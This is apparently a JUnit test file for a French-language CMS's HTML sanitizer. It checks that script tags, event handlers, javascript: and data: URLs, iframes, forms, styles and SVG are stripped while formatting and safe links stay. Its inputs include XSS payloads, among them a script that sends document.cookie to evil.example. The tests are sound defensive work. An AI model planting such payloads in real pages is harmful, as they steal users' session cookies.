package energy.mwolo.cms.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class RichTextTest {

    @Test
    void removesScriptElementsWithTheirCode() {
        String clean = RichText.clean("<p>Bonjour</p><script>fetch('https://evil.example/'+document.cookie)</script>");

        assertThat(clean).isEqualTo("<p>Bonjour</p>").doesNotContain("fetch", "cookie");
    }

    @Test
    void removesEventHandlerAttributesButKeepsTheImage() {
        String clean = RichText.clean("<img src=\"https://mwolo.energy/a.png\" onerror=\"alert(1)\" alt=\"A\">");

        assertThat(clean).contains("src=\"https://mwolo.energy/a.png\"", "alt=\"A\"").doesNotContain("onerror", "alert");
    }

    @Test
    void dropsJavascriptAndDataUrlsFromLinksAndImages() {
        String clean = RichText.clean("<a href=\"javascript:alert(1)\">clic</a><a href=\" JaVaScRiPt:alert(2)\">b</a>"
                + "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">");

        assertThat(clean).doesNotContainIgnoringCase("javascript").doesNotContain("data:", "alert").contains("clic");
    }

    @Test
    void keepsFormattingAndSafeLinksWhichOpenWithoutTheOpener() {
        String clean = RichText.clean("<h2>Tarifs</h2><p><strong>16 %</strong> de TVA, <a href=\"https://mwolo.energy/"
                + "tarifs\">voir</a> ou <a href=\"tel:+243990000000\">appeler</a></p><ul><li>un</li></ul>");

        assertThat(clean).contains("<h2>Tarifs</h2>", "<strong>16 %</strong>", "<li>un</li>",
                "href=\"https://mwolo.energy/tarifs\"", "href=\"tel:+243990000000\"",
                "rel=\"noopener noreferrer nofollow\"");
    }

    @Test
    void removesIframesFormsStylesAndSvg() {
        String clean = RichText.clean("<iframe src=\"https://evil.example\"></iframe><form action=\"/x\"><input></form>"
                + "<style>body{display:none}</style><svg onload=\"alert(1)\"></svg><p style=\"x\">ok</p>");

        assertThat(clean).isEqualTo("<p>ok</p>");
    }

    @Test
    void plainTextKeepsNoTagAtAll() {
        assertThat(RichText.plain("  <b>Accueil</b><script>x()</script> ")).isEqualTo("Accueil");
    }
}
